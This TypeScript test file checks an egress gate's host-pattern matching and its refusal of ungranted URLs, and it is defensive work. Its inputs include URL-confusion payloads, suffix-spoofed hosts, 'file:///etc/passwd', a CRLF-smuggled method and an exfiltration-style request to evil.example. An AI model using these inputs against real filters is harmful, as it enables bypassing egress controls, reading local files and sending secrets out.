import t from 'tap'
import { matchesHost } from '../../../runtime/egress/host-pattern.ts'
import { grant, openGate, outcomeOf, textOf } from './open-gate.ts'
import { startUpstream } from './start-upstream.ts'

t.test('a pattern matches its own host, or what lies below its wildcard', async (t) => {
  const yes = [
    ['api.erp.example', 'api.erp.example'],
    ['*.erp.example', 'a.erp.example'],
    ['*.erp.example', 'a.b.erp.example'],
    ['*.tenant.erp.co.uk', 'x.tenant.erp.co.uk'],
  ]
  for (const [pattern = '', host = ''] of yes) t.ok(matchesHost(pattern, host), `${pattern} ${host}`)
  const no = [
    ['api.erp.example', 'API.erp.example.'],
    ['api.erp.example', 'api.erp.example.evil.example'],
    ['*.erp.example', 'erp.example'],
    ['*.erp.example', 'evilerp.example'],
    ['*.erp.example', '.erp.example'],
    ['*.erp.example', 'a.erp.example.'],
    ['*.com', 'a.com'],
    ['*.co.uk', 'a.co.uk'],
    ['*.github.io', 'someone.github.io'],
    ['*.example', 'a.example'],
    ['*.', 'a.'],
    ['*', 'a.example'],
    ['*.*.example', 'a.b.example'],
    ['a.*.example', 'a.b.example'],
    ['**.erp.example', 'a.erp.example'],
    ['*erp.example', 'evilerp.example'],
  ]
  for (const [pattern = '', host = ''] of no) t.notOk(matchesHost(pattern, host), `${pattern} ${host}`)
})

t.test('scheme, host and port must all be granted', async (t) => {
  const upstream = await startUpstream(t)
  const { port } = upstream
  const gate = await openGate(t, [grant('api.erp.example', port), grant('*.wild.example', port)])
  const granted = [
    `http://api.erp.example:${port}/`,
    `HTTP://API.ERP.EXAMPLE:${port}/`,
    `http://a.wild.example:${port}/`,
  ]
  for (const url of granted) t.equal(outcomeOf(await gate.get(url)), '200', `control: ${url}`)
  const urls = [
    `https://api.erp.example:${port}/`,
    'http://api.erp.example/',
    `http://evil.example:${port}/`,
    `http://wild.example:${port}/`,
    `http://evilwild.example:${port}/`,
    `http://api.erp.example.:${port}/`,
    `http://api.erp.example.evil.example:${port}/`,
    `http://evil.example:${port}#@api.erp.example:${port}/`,
    `http://evil.example:${port}\\@api.erp.example:${port}/`,
    `http://evil.example:${port}?@api.erp.example:${port}/`,
    'file:///etc/passwd',
    'ftp://api.erp.example/',
    'data:text/plain,hello',
    `ws://api.erp.example:${port}/`,
  ]
  for (const url of urls) t.equal(outcomeOf(await gate.get(url)), 'EGRESS_DENIED', url)
  t.equal(upstream.requests.length, granted.length)
  const refused = (await gate.audit.list('org_a')).data.filter((row) => row.outcome === 'refused')
  t.equal(refused.length, urls.length)
})

t.test('names the host and the reason in a refusal', async (t) => {
  const gate = await openGate(t, [])
  t.equal(
    textOf(await gate.get('https://evil.example/steal?secret=1')),
    'https://evil.example:443 is not among the hosts granted to this installation',
  )
})

t.test('refuses user info in the URL', async (t) => {
  const upstream = await startUpstream(t)
  const gate = await openGate(t, [grant('api.erp.example', upstream.port)])
  for (const info of ['user:pass@', 'user@', ':pass@', 'evil.example:80@']) {
    t.match(textOf(await gate.get(`http://${info}api.erp.example:${upstream.port}/`)), /user info/, info)
  }
  t.equal(upstream.requests.length, 0)
})

t.test('refuses what is no URL, no method, or a body where none belongs', async (t) => {
  const gate = await openGate(t, [grant('api.erp.example', 80)])
  for (const url of [
    '',
    '/path',
    'api.erp.example',
    'http://',
    'http://a b/',
    `http://api.erp.example/${'x'.repeat(17_000)}`,
  ]) {
    t.equal(outcomeOf(await gate.get(url)), 'INVALID_ARGUMENT', url.slice(0, 40))
  }
  for (const method of ['get', 'CONNECT', 'TRACE', 'GET /x HTTP/1.1\r\nHost: evil\r\n\r\n', '']) {
    const result = await gate.get('http://api.erp.example/', { request: { url: '', method, headers: [] } })
    t.equal(outcomeOf(result), 'INVALID_ARGUMENT', method)
  }
  const body = { url: '', method: 'GET', headers: [], body: Buffer.from('x') }
  t.equal(outcomeOf(await gate.get('http://api.erp.example/', { request: body })), 'INVALID_ARGUMENT')
})
